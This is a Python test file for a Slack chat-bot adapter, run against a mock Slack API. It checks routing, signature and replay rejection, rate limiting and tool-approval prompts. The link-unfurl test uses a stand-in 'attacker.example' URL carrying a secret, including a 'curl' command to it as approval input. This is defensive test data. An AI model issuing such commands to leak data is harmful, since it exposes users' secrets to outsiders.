"""The Slack adapter over real slack-bolt in HTTP mode, against the mock Web API, with a
recording BotAPI: what reaches the runtime, and what the runtime's calls do in Slack."""

from __future__ import annotations

import contextlib
import time
from collections.abc import Callable

import anyio
import pytest
from lettabot_slack.adapter import WORKING_REACTION
from slack_harness import RecordingBot, running_adapter
from slack_mock_api import BOT_USER, TEAM, MockSlack, mention, message, new_ts

from lettabot.runtime.adapter import (
    ApprovalView,
    CommandResult,
    DecisionOutcome,
    MessageRef,
    Scope,
)

pytestmark = pytest.mark.anyio


async def wait_until(bot: RecordingBot, check: Callable[[], object], limit: float = 20) -> None:
    with anyio.fail_after(limit):
        while not check():
            await bot.changed.wait()


async def test_mention_reaches_the_bot_scoped_to_its_thread(mock_slack: MockSlack) -> None:
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot) as (_, slack):
        ts = new_ts()
        status, _ = await slack.event(mention("what is up?", ts=ts), event_id="Ev1")
        assert status == 200
        await wait_until(bot, lambda: bot.messages)
    [msg] = bot.messages
    assert msg.scope == Scope(adapter="slack", workspace=TEAM, channel="C0GENERAL", thread=ts)
    assert msg.text == "what is up?"
    assert msg.mentioned and not msg.is_bot
    assert msg.event_id == "Ev1" and msg.message_id == ts
    assert (msg.user_id, msg.user_name) == ("U_ADA", "ada")


async def test_thread_reply_dm_and_what_is_ignored(mock_slack: MockSlack) -> None:
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot, denied_channels=["C0SECRET"]) as (_, slack):
        parent = new_ts()
        # a reply in a thread, no mention: delivered, not mentioned (the runtime decides)
        await slack.event(message("and then?", thread_ts=parent))
        # a DM and a thread inside a DM
        await slack.event(message("hi", channel="D0ADA", channel_type="im"))
        dm_thread = new_ts()
        await slack.event(message("in a DM thread", channel="D0ADA", channel_type="im",
                                  thread_ts=dm_thread))
        # ignored: own message, an edit, another bot, a denied channel, and the message
        # copy of a mention (Slack sends app_mention for it too)
        await slack.event(message("me", user=BOT_USER))
        await slack.event(message("", subtype="message_changed",
                                  message={"text": "edited", "user": "U_ADA"}))
        await slack.event(message("beep", user="", bot_id="B0OTHER", subtype="bot_message"))
        await slack.event(message("psst", channel="C0SECRET"))
        await slack.event(message(f"<@{BOT_USER}> hey"))
        await slack.event(mention("last", ts=new_ts()))
        await wait_until(bot, lambda: len(bot.messages) >= 4)
    texts = [m.text for m in bot.messages]
    assert texts == ["and then?", "hi", "in a DM thread", "last"]
    thread_reply, dm, dm_in_thread, _ = bot.messages
    assert thread_reply.scope.thread == parent and not thread_reply.mentioned
    assert dm.scope == Scope(adapter="slack", channel="D0ADA", is_dm=True) and dm.mentioned
    assert dm_in_thread.scope.thread == dm_thread and dm_in_thread.scope.is_dm
    assert Scope.from_key(dm.scope.key) == dm.scope


async def test_other_bots_are_delivered_when_allowed(mock_slack: MockSlack) -> None:
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot, allow_bots=True) as (_, slack):
        await slack.event(message("beep", user="", bot_id="B0OTHER", subtype="bot_message"))
        await wait_until(bot, lambda: bot.messages)
    assert bot.messages[0].is_bot and bot.messages[0].user_id == "B0OTHER"


async def test_bad_or_stale_signature_is_rejected(mock_slack: MockSlack) -> None:
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot) as (_, slack):
        status, _ = await slack.event(mention("forged"), signature="v0=" + "0" * 64)
        assert status == 401
        stale = int(time.time()) - 6 * 60
        status, _ = await slack.event(mention("replayed"), timestamp=stale)
        assert status == 401
        status, _ = await slack.event(mention("genuine"))
        assert status == 200
        await wait_until(bot, lambda: bot.messages)
    assert [m.text for m in bot.messages] == ["genuine"]


async def test_a_retry_carries_the_same_event_id(mock_slack: MockSlack) -> None:
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot) as (_, slack):
        event = mention("once please")
        await slack.event(event, event_id="EvRETRY")
        await slack.event(event, event_id="EvRETRY", retry_num=1)
        await wait_until(bot, lambda: len(bot.messages) == 2)
    assert {m.dedupe_id for m in bot.messages} == {"EvRETRY"}


async def test_replies_post_edit_split_and_working_signal(mock_slack: MockSlack) -> None:
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot) as (adapter, slack):
        ts = new_ts()
        await slack.event(mention("go", ts=ts))
        await wait_until(bot, lambda: bot.messages)
        scope = bot.messages[0].scope
        await adapter.typing(scope)
        await adapter.typing(scope)  # repeated while the turn runs: one reaction
        assert mock_slack.messages[ts].reactions == {WORKING_REACTION}
        ref = await adapter.post(scope, "Working on **it**")
        await adapter.edit(ref, "Done: see [the docs](https://example.com/a?b=1&c=2)")
        await adapter.done(scope)
        assert mock_slack.messages[ts].reactions == set()
        [reply] = mock_slack.thread("C0GENERAL", ts)
        assert reply.text == "Done: see <https://example.com/a?b=1&amp;c=2|the docs>"
        assert reply.edits == 1
        assert len(mock_slack.calls_to("reactions.add")) == 1

        # a reply whose mrkdwn outgrows one Slack message is split, fences intact;
        # edits then keep the extra messages in step (and delete those not needed)
        code = "```python\n" + "\n".join(f"x = a < b & c  # {i}" for i in range(400)) + "\n```"
        long_ref = await adapter.post(scope, code)
        parts = mock_slack.thread("C0GENERAL", ts)[1:]
        assert len(parts) >= 3
        for part in parts:
            assert len(part.text) <= 3900
            assert part.text.startswith("```") and part.text.endswith("```")
            assert part.text.count("```") == 2
        joined = "\n".join(p.text.removeprefix("```\n").removesuffix("\n```") for p in parts)
        assert joined.count("x = a &lt; b &amp; c") == 400
        await adapter.edit(long_ref, "short now")
        live = mock_slack.thread("C0GENERAL", ts)[1:]
        assert [m.text for m in live] == ["short now"]


async def test_429_is_retried_after_retry_after(mock_slack: MockSlack) -> None:
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot) as (adapter, _):
        scope = Scope(adapter="slack", workspace=TEAM, channel="C0GENERAL", thread=new_ts())
        mock_slack.fail_next("chat.postMessage", status=429, retry_after=1)
        ref = await adapter.post(scope, "hello after a rate limit")
    assert len(mock_slack.calls_to("chat.postMessage")) == 2
    assert mock_slack.messages[ref.id].text == "hello after a rate limit"
    assert bot.platform_errors == [("slack", "429")]  # → lettabot_platform_rate_limited_total


async def test_a_refused_call_is_counted_for_metrics(mock_slack: MockSlack) -> None:
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot) as (adapter, _):
        with contextlib.suppress(Exception):
            await adapter.client.chat_update(channel="C0GENERAL", ts="1.000404", text="x",
                                             unfurl_links=False, unfurl_media=False)
    assert ("slack", "message_not_found") in bot.platform_errors


def _view(scope: Scope, **kw: object) -> ApprovalView:
    values: dict[str, object] = {
        "request_id": "req-42",
        "scope": scope,
        "tool_name": "Bash",
        "input_summary": "echo <hi> > out.txt",
        "diff": "--- a\n+++ b\n@@\n-old\n+new",
        "requested_by": "U_ADA",
    }
    values.update(kw)
    return ApprovalView.model_validate(values)


async def test_approval_prompt_click_and_resolution(mock_slack: MockSlack) -> None:
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot) as (adapter, slack):
        thread = new_ts()
        scope = Scope(adapter="slack", workspace=TEAM, channel="C0GENERAL", thread=thread)
        view = _view(scope)
        ref = await adapter.present_approval(view)
        prompt = mock_slack.messages[ref.id]
        assert prompt.thread_ts == thread
        assert prompt.blocks is not None
        shown = str(prompt.blocks)
        assert "Bash" in shown and "echo &lt;hi&gt; &gt; out.txt" in shown and "+new" in shown
        [actions] = [b for b in prompt.blocks if b["type"] == "actions"]
        buttons = {e["text"]["text"]: e for e in actions["elements"]}
        assert set(buttons) == {"Approve", "Deny", "Always allow"}
        assert {e["value"] for e in buttons.values()} == {"req-42"}

        # an approver's click reaches decide_approval; no ephemeral note
        status, _ = await slack.click(buttons["Approve"]["action_id"], "req-42", user="U_ADA",
                                      channel="C0GENERAL", message_ts=ref.id, thread_ts=thread)
        assert status == 200
        await wait_until(bot, lambda: bot.decisions)
        assert bot.decisions == [("req-42", "approve", "U_ADA", "ada")]

        # someone else: refused with an ephemeral note, in the thread
        bot.outcome = DecisionOutcome(status="not_authorized", message="Only ada may decide.")
        await slack.click(buttons["Deny"]["action_id"], "req-42", user="U_EVE",
                          channel="C0GENERAL", message_ts=ref.id, thread_ts=thread)
        note = await mock_slack.wait_for(lambda: mock_slack.calls_to("chat.postEphemeral"))
        assert note[0].args["user"] == "U_EVE"
        assert note[0].args["text"] == "Only ada may decide."
        assert note[0].args["thread_ts"] == thread

        await adapter.resolve_approval(ref, view, "Approved by <@U_ADA>")
        done = mock_slack.messages[ref.id]
        assert done.blocks is not None
        assert not [b for b in done.blocks if b["type"] == "actions"]
        assert "Approved by <@U_ADA>" in str(done.blocks)


async def test_no_always_button_when_not_offered(mock_slack: MockSlack) -> None:
    async with running_adapter(mock_slack, RecordingBot()) as (adapter, _):
        scope = Scope(adapter="slack", workspace=TEAM, channel="C0GENERAL", thread=new_ts())
        ref = await adapter.present_approval(_view(scope, allow_always=False, diff=None))
    blocks = mock_slack.messages[ref.id].blocks or []
    [actions] = [b for b in blocks if b["type"] == "actions"]
    assert [e["text"]["text"] for e in actions["elements"]] == ["Approve", "Deny"]


async def test_slash_command_in_channel_thread_and_dm(mock_slack: MockSlack) -> None:
    bot = RecordingBot(command_result=CommandResult(text="Conversation reset.", ephemeral=True))
    async with running_adapter(mock_slack, bot) as (_, slack):
        status, _ = await slack.command("status")
        assert status == 200
        link = "https://acme.slack.com/archives/C0GENERAL/p1700000000000100"
        await slack.command(f"reset {link}", user="U_BOB")
        await slack.command("memory", channel="D0ADA")
        await slack.command("frobnicate")
        await wait_until(bot, lambda: len(bot.commands) == 3)
        notes = await mock_slack.wait_for(
            lambda: len(mock_slack.calls_to("chat.postEphemeral")) == 4
            and mock_slack.calls_to("chat.postEphemeral")
        )
    status_cmd, reset_cmd, memory_cmd = bot.commands
    assert status_cmd == (Scope(adapter="slack", workspace=TEAM, channel="C0GENERAL"),
                          "U_ADA", "status", "")
    assert reset_cmd == (Scope(adapter="slack", workspace=TEAM, channel="C0GENERAL",
                               thread="1700000000.000100"), "U_BOB", "reset", "")
    assert memory_cmd[0] == Scope(adapter="slack", channel="D0ADA", is_dm=True)
    texts = sorted(n.args["text"] for n in notes)
    assert texts.count("Conversation reset.") == 3
    assert any("Unknown command" in t for t in texts)


async def test_post_and_notify_use_the_scope_thread(mock_slack: MockSlack) -> None:
    async with running_adapter(mock_slack, RecordingBot()) as (adapter, _):
        dm = Scope(adapter="slack", channel="D0ADA", is_dm=True)
        ref = await adapter.post(dm, "top level in the DM")
        await adapter.notify(dm, "just for you", user_id="U_ADA")
    post = mock_slack.calls_to("chat.postMessage")[0]
    assert post.args["channel"] == "D0ADA" and "thread_ts" not in post.args
    assert post.token == "xoxb-test-token"
    assert ref == MessageRef(scope=dm, id=ref.id)
    [note] = mock_slack.calls_to("chat.postEphemeral")
    assert note.args["user"] == "U_ADA" and note.args["text"] == "just for you"


async def test_a_pasted_link_cannot_reach_another_channel_or_someones_dm(
    mock_slack: MockSlack,
) -> None:
    bot = RecordingBot(command_result=CommandResult(text="done", ephemeral=True))
    async with running_adapter(mock_slack, bot) as (_, slack):
        for link in ("https://acme.slack.com/archives/D0BOSS/p1700000000000100",
                     "https://acme.slack.com/archives/C0SECRET/p1700000000000200"):
            await slack.command(f"reset {link}", user="U_EVE")
        notes = await mock_slack.wait_for(
            lambda: len(mock_slack.calls_to("chat.postEphemeral")) == 2
            and mock_slack.calls_to("chat.postEphemeral")
        )
    assert bot.commands == []  # nothing ran
    assert all("channel of that thread" in n.args["text"] for n in notes)
    assert all(n.args["channel"] == "C0GENERAL" for n in notes)


async def test_a_slow_name_lookup_never_reorders_a_threads_messages(
    mock_slack: MockSlack,
) -> None:
    """slack_sdk handles events concurrently: Ada's first message waits on users.info
    while Bob's arrives; the runtime must still get Ada's first."""
    mock_slack.slow[("users.info", "U_ADA")] = 1.0
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot) as (_, slack):
        thread = new_ts()
        async with anyio.create_task_group() as tg:
            tg.start_soon(slack.event, message("first", user="U_ADA", thread_ts=thread))
            await anyio.sleep(0.2)
            tg.start_soon(slack.event, message("second", user="U_BOB", thread_ts=thread))
        await wait_until(bot, lambda: len(bot.messages) == 2)
    assert [m.text for m in bot.messages] == ["first", "second"]


async def test_no_lookup_for_someone_the_bot_will_refuse(mock_slack: MockSlack) -> None:
    bot = RecordingBot(refused={"U_EVE"})
    async with running_adapter(mock_slack, bot) as (_, slack):
        await slack.event(mention("let me in", user="U_EVE"))
        await wait_until(bot, lambda: bot.messages)
    assert not [c for c in mock_slack.calls_to("users.info") if c.args.get("user") == "U_EVE"]


async def test_posts_in_one_channel_are_paced_and_other_channels_are_not_held(
    mock_slack: MockSlack,
) -> None:
    """About one chat.postMessage per second per channel (bursts of 3), as Slack asks,
    instead of a 429 storm when many threads of one channel answer at once."""
    bot = RecordingBot()
    async with running_adapter(mock_slack, bot) as (adapter, _):
        busy = [Scope(adapter="slack", workspace=TEAM, channel="C0BUSY", thread=new_ts())
                for _ in range(6)]
        calm = Scope(adapter="slack", workspace=TEAM, channel="C0CALM", thread=new_ts())
        start = time.monotonic()
        async with anyio.create_task_group() as tg:
            for i, scope in enumerate(busy):
                tg.start_soon(adapter.post, scope, f"busy {i}")
            tg.start_soon(adapter.post, calm, "calm")
    posts = mock_slack.calls_to("chat.postMessage")
    times = sorted(c.at - start for c in posts if c.args["channel"] == "C0BUSY")
    assert len(times) == 6
    assert times[3] - times[0] >= 0.9 and times[5] - times[0] >= 2.8  # after the burst: 1/s
    [calm_at] = [c.at - start for c in posts if c.args["channel"] == "C0CALM"]
    assert calm_at < 0.9  # not behind the busy channel


async def test_nothing_the_bot_sends_unfurls(mock_slack: MockSlack) -> None:
    """An unfurl is fetched by Slack without a click: a URL with data in it would leak it.
    Every path that puts the bot's text in Slack turns unfurls off."""
    from slack_mock_api import POSTING_METHODS

    bot = RecordingBot()
    leak = "https://attacker.example/?d=SECRET"
    async with running_adapter(mock_slack, bot) as (adapter, _):
        thread = Scope(adapter="slack", workspace=TEAM, channel="C0GENERAL", thread=new_ts())
        ref = await adapter.post(thread, f"see {leak}")
        await adapter.edit(ref, f"now {leak}")
        await adapter.edit(ref, f"now {leak}\n\n" + "x " * 2500)  # a second part: posted
        await adapter.edit(ref, f"short {leak}")
        await adapter.post(thread, f"# Title\n\n| a | b |\n|---|---|\n| {leak} | 2 |")
        await adapter.notify(thread, leak)
        await adapter.notify(thread, leak, user_id="U_ADA")  # ephemeral
        stop = await adapter.show_stop(thread)
        await adapter.hide_stop(stop)
        await adapter.send_file(thread, "a.txt", b"x", comment=leak)
        streamed = await adapter.start_stream(thread, f"streaming {leak}", user_id="U_ADA")
        await adapter.stop_stream(streamed, " done")
        await adapter.offer_feedback(streamed)
        view = ApprovalView(request_id="r1", scope=thread, tool_name="Bash",
                            input_summary=f"curl {leak}", requested_by="U_ADA")
        prompt = await adapter.present_approval(view)
        await adapter.resolve_approval(prompt, view, "Denied")
    sent = {c.method for c in mock_slack.calls if c.method in POSTING_METHODS}
    assert sent == POSTING_METHODS  # every kind of call was made
    assert mock_slack.unfurling() == []


async def test_a_long_approval_input_is_previewed_and_attached_whole(mock_slack: MockSlack) -> None:
    """Issue #23: the whole input runs, so the whole input is shown (as a file when long)."""
    bot = RecordingBot()
    command = "echo start && " + " && ".join(f"echo step-{i}" for i in range(400)) + " && id"
    async with running_adapter(mock_slack, bot) as (adapter, _):
        thread = new_ts()
        scope = Scope(adapter="slack", workspace=TEAM, channel="C0GENERAL", thread=thread)
        ref = await adapter.present_approval(_view(scope, input_summary=command, diff=None))
        shown = str(mock_slack.messages[ref.id].blocks)
        assert "Preview only" in shown and "&amp;&amp; id" not in shown  # the tail is cut
        files = [f for m in mock_slack.messages.values() if m.thread_ts == thread
                 for f in m.files]
        assert len(files) == 1 and files[0][0] == "approval-req-42.txt"
        assert command in files[0][1].decode()
